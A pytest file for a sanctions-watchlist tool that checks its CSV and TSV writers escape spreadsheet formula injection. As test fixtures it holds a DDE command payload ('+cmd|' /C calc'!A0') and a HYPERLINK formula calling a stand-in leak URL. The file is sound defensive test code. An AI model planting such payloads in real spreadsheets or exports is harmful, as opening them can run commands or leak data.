"""Every CSV watchlist writes is safe to open in a spreadsheet: a text cell that would run
as a formula (OWASP's CSV injection) starts with a `'`; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from watchlist.cli import app
from watchlist.screening.csv_safety import safe_cell, safe_row
from watchlist.screening.writers import open_writer
from watchlist.store.store import Store
from watchlist.updates.pipeline import update_from_paths

runner = CliRunner()

ID = "+cmd|' /C calc'!A0"
CAPTION = '=HYPERLINK("http://x.test/?leak","Ivan Formulov")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                                  ID, CAPTION])
def test_a_text_cell_a_spreadsheet_would_run_gets_a_quote_before_it(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Ivan Petrov", "", " =1", "1-2", "a=b", "'=1", None,
                                   -0.5, -3, 0.9123])
def test_other_cells_and_numbers_are_written_as_they_are(value: object) -> None:
    assert safe_cell(value) == value
    assert safe_row([value, "=x"]) == [value, "'=x"]


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_the_screen_csv_writer_neutralises_ids_captions_and_errors(tmp_path: Path,
                                                                   suffix: str) -> None:
    hit = {"entity_id": "-e1", "caption": CAPTION, "schema": "Person", "score": 0.95,
           "designations": [{"source": "@list", "ref": "r1"}], "explanation": {}}
    target = tmp_path / f"out{suffix}"
    with open_writer(target) as writer:
        writer.write({"id": ID, "matches": [hit]})
        writer.write({"id": "=2", "error": "-bad row", "matches": []})
        writer.write({"id": 3, "matches": []})
    header, first, second, third = cells(target.read_text(encoding="utf-8"),
                                         "\t" if suffix == ".tsv" else ",")
    row = dict(zip(header, first, strict=True))
    assert row["id"] == "'" + ID and row["best_caption"] == "'" + CAPTION
    assert row["best_entity_id"] == "'-e1" and row["best_designations"] == "'@list r1"
    assert row["best_score"] == "0.9500"
    assert json.loads(row["matches"])[0]["caption"] == CAPTION  # JSON text starts with [
    assert second[:2] == ["'=2", "'-bad row"] and third[0] == "3"


@pytest.fixture
def formula_lists(home: Path, tmp_path: Path) -> Path:
    """A store serving one list whose names are formulas."""
    path = tmp_path / "evil" / "evil.ftm.json"
    path.parent.mkdir()
    entities = [{"id": "evil-1", "schema": "Person",
                 "properties": {"name": [CAPTION], "alias": ["-Ivan Minusov"],
                                "topics": ["sanction"]}},
                {"id": "evil-2", "schema": "Person",
                 "properties": {"name": ["@Petr Atov"], "topics": ["sanction"]}}]
    path.write_text("".join(json.dumps(e) + "\n" for e in entities), encoding="utf-8")
    assert update_from_paths(Store(), [path]).ok
    return path


def test_export_csv_neutralises_names_and_aliases(formula_lists: Path) -> None:
    result = runner.invoke(app, ["export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    names = {row["name"]: row for row in rows}
    assert set(names) == {"'" + CAPTION, "'@Petr Atov"}
    assert names["'" + CAPTION]["aliases"] == "'-Ivan Minusov"


def test_screen_to_csv_neutralises_the_customers_id_and_the_listed_caption(
        formula_lists: Path, tmp_path: Path) -> None:
    source = tmp_path / "customers.csv"
    with open(source, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["id", "name"], [ID, CAPTION]])
    target = tmp_path / "out.csv"
    result = runner.invoke(app, ["screen", str(source), "-o", str(target)])
    assert result.exit_code == 0, result.output
    with open(target, encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["id"] == "'" + ID and row["best_caption"] == "'" + CAPTION
